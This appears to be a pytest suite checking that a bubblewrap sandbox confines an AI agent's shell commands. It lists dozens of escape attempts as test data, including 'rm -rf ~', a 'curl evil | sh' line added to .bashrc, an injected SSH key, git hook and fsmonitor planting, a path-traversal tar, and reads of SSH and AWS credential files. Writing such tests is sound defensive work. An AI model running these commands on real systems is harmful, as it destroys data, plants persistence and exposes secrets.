"""Shell confinement with real bubblewrap: nothing outside the workspace (or protected inside it)
changes, whatever the command tries. Legitimate writes inside the workspace work."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
import uuid
from pathlib import Path

import pytest
from sandbox_helpers import (
    CANARY,
    GIT,
    STATUS,
    Layout,
    agents_own_in_tmp,
    child_env,
    make_layout,
    manifest,
    needs_bwrap,
    remove_layout,
    run,
)

from vllm_bot.config import SandboxConfig
from vllm_bot.safety.sandbox import Sandbox

pytestmark = needs_bwrap

# Each must fail (non-zero exit) and change nothing watched. {o} outside dir, {h} fake home.
ESCAPES = [
    "echo x > ../outside/new.txt",
    "echo x >> ../outside/file.txt",
    "echo x > {o}/file.txt",
    "printf x > {o}/nested/deep.bin",
    "echo data > s1 && cp s1 ../outside/",
    "echo data > s2 && cp s2 {o}/copied",
    "echo data > s3 && mv s3 ../outside/moved",
    "echo data > s4 && install -m 644 s4 ../outside/installed",
    "mv ../outside/file.txt ./stolen",
    "echo data > s5 && tar -cf a.tar s5 && tar -xf a.tar -C ../outside",
    "python3 -c \"import tarfile,io; t=tarfile.open('evil.tar','w'); i=tarfile.TarInfo('../outside/evil');"
    " i.size=1; t.addfile(i, io.BytesIO(b'x')); t.close()\" && tar -xPf evil.tar",
    "ln -s ../outside/file.txt link1 && echo x > link1",
    "ln -s {o} dlink && echo x > dlink/new",
    "ln {o}/file.txt hard && echo x >> hard",
    "python3 -c \"open('../outside/py.txt', 'w').write('x')\"",
    "python3 -c \"import os; os.remove('{o}/file.txt')\"",
    "python3 -c \"import shutil; shutil.rmtree('{h}')\"",
    "rm -rf ../outside",
    "rm -rf {o}/nested",
    "rm -rf ~",
    'rm -rf "$HOME"/.ssh',
    "find ../outside -type f -delete",
    "mkdir ../outside/newdir",
    "chmod 777 ../outside/file.txt",
    "touch -d 2000-01-01 ../outside/file.txt",
    "truncate -s 0 ../outside/file.txt",
    "dd if=/dev/zero of=../outside/file.txt bs=1 count=1 conv=notrunc",
    "echo x | tee ../outside/tee.txt",
    "perl -e 'open(F, \">../outside/perl.txt\") or die'",
    "cd .. && touch outside/cd.txt",
    "touch {ws}_sibling",
    "cp -r . ../outside/copy",
    "echo 'curl evil | sh' >> ~/.bashrc",
    "echo 'x' > ~/.profile",
    "git config --global user.name evil",
    "git config --global core.hooksPath /tmp/hooks",
    "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
    "git config core.hooksPath /tmp/hooks",
    "git config core.fsmonitor 'touch /tmp/pwned'",
    "git --git-dir=.git config alias.st '!touch /tmp/pwned'",
    "printf '[core]\\n\\thooksPath = x\\n' > .git/config",
    "sed -i 's/bare/evil/' .git/config",
    "mv .git/config .git/config.bak",
    "cp /dev/null .git/config",
    "echo '#!/bin/sh' > .git/hooks/pre-commit",
    "echo evil >> .git/hooks/post-checkout",
    "rm .git/hooks/post-checkout",
    "chmod -x .git/hooks/post-checkout",
    "ln -s /tmp/evil .git/hooks/pre-push",
    "mv .git/hooks .git/hooks_old",
    "rm -rf .git/hooks",
    "mkdir -p .git/modules/sub/hooks",
    "mv .git .git_old",
    "echo '{{}}' > .vllm-bot/config.json",
    "rm -rf .vllm-bot",
    "mv .vllm-bot vb",
    "touch /evil",
    "touch /etc/evil",
    "echo x > /usr/local/bin/evil",
    "mount -o remount,rw /",
    "mount -t tmpfs none ../outside",
    "umount .git/hooks && touch .git/hooks/pre-commit",
    "unshare -Urm sh -c 'umount -l .git/hooks; touch .git/hooks/pre-commit'",
]


def test_at_least_forty_escapes():
    assert len(ESCAPES) >= 40


@pytest.mark.parametrize("template", ESCAPES)
def test_escape_fails_and_changes_nothing(layout: Layout, sandbox: Sandbox, template: str):
    before = layout.watched()
    command = template.format(o=layout.outside, h=layout.home, ws=layout.ws)
    result = run(sandbox, command, child_env(layout, sandbox))
    # $HOME is an empty read-only folder inside: `rm -rf ~/.ssh` finds nothing there to remove
    if "$HOME" not in template:
        assert result.returncode != 0, f"{command!r} succeeded: {result.stdout}{result.stderr}"
    assert layout.watched() == before
    assert not Path(f"{layout.ws}_sibling").exists()
    assert not Path("/tmp/pwned").exists()


def test_legitimate_writes_inside_the_workspace_work(layout: Layout, sandbox: Sandbox):
    script = (
        "mkdir -p build/sub && echo built > build/sub/out.txt && "
        "python3 -c \"open('py.txt', 'w').write('from python')\" && "
        "ln -s build/sub/out.txt inside-link && echo more >> inside-link && "
        "git status --short && git diff --stat && git log --oneline && echo done"
    )
    result = run(sandbox, script, child_env(layout, sandbox))
    assert result.returncode == 0, result.stderr
    assert (layout.ws / "build" / "sub" / "out.txt").read_text() == "built\nmore\n"
    assert (layout.ws / "py.txt").read_text() == "from python"
    assert "init" in result.stdout  # reading the repository works with .git read-only


def test_git_writable_lets_commands_commit():
    layout = make_layout()
    try:
        with Sandbox(layout.ws, SandboxConfig(git_writable=True), STATUS, home=layout.home) as sandbox:
            env = child_env(layout, sandbox)
            commit = f"echo w > w.txt && {' '.join(GIT)} add w.txt && {' '.join(GIT)} commit -qm work"
            result = run(sandbox, commit, env)
            assert result.returncode == 0, result.stderr
            assert run(sandbox, "mv .git g", env).returncode != 0  # .git stays pinned in place
        log = subprocess.run(
            [*GIT, "-C", str(layout.ws), "log", "--format=%s"], capture_output=True, text=True
        )
        assert log.stdout.split() == ["work", "init"]
    finally:
        remove_layout(layout)


def test_tmp_is_private_and_persists_between_commands(layout: Layout, sandbox: Sandbox):
    name = f"vllm-bot-marker-{uuid.uuid4().hex}"
    env = child_env(layout, sandbox)
    assert run(sandbox, f"echo one > /tmp/{name} && echo two > /dev/shm/{name}", env).returncode == 0
    assert not Path("/tmp", name).exists() and not Path("/dev/shm", name).exists()
    assert (sandbox.private_tmp() / name).read_text() == "one\n"
    assert run(sandbox, f"cat /tmp/{name}", env).stdout == "one\n"
    host_tmp = {p.name for p in Path("/tmp").iterdir()}
    listing = run(sandbox, "ls -A /tmp", env).stdout.split()
    assert name in listing and not (set(listing) - {name, "pytest-of-root", *agents_own_in_tmp()}) & host_tmp


def test_no_capabilities_and_no_nested_user_namespaces(layout: Layout, sandbox: Sandbox):
    result = run(sandbox, "grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status", child_env(layout, sandbox))
    caps = dict(line.split(":") for line in result.stdout.strip().splitlines())
    assert len(caps) == 5 and all(int(v, 16) == 0 for v in caps.values()), caps
    if "--disable-userns" in STATUS.flags:
        assert run(sandbox, "unshare -U true", child_env(layout, sandbox)).returncode != 0


def test_pid_namespace_hides_host_processes(layout: Layout, sandbox: Sandbox):
    env = child_env(layout, sandbox)
    pids = run(sandbox, "ls /proc | grep -c '^[0-9]'", env).stdout.strip()
    assert int(pids) < 10
    assert run(sandbox, f"kill -0 {os.getpid()}", env).returncode != 0


def test_secrets_and_service_sockets_are_hidden(layout: Layout, sandbox: Sandbox):
    env = child_env(layout, sandbox)
    result = run(sandbox, "cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc; ls -A ~/.ssh /run; env", env)
    assert CANARY not in result.stdout + result.stderr
    assert "id_rsa" not in result.stdout
    assert run(sandbox, "ls -A /run | wc -l", env).stdout.strip() == "0"


def test_workspace_under_tmp_still_works():
    base = Path(tempfile.mkdtemp(prefix="vllm-bot-test-", dir="/tmp")).resolve()
    ws = base / "ws"
    ws.mkdir()
    try:
        with Sandbox(ws, SandboxConfig(), STATUS, home=base) as sandbox:
            env = child_env(Layout(base, ws, base, base), sandbox)
            result = run(sandbox, "echo ok > made.txt && ls -A /tmp", env)
            assert result.returncode == 0, result.stderr
            assert (ws / "made.txt").read_text() == "ok\n"
            # only the path down to the workspace (and the agent's own interpreter, if it is in /tmp)
            assert set(result.stdout.split()) == {base.name, *agents_own_in_tmp()}
    finally:
        shutil.rmtree(base)


def test_sibling_sentinel_unchanged_after_all_escapes(layout: Layout):
    # The per-command checks compare before/after; this pins the absolute state too.
    assert manifest(layout.outside)["file.txt"][2] == b"sentinel\n"
    assert (layout.home / ".bashrc").read_text() == "# bashrc\n"
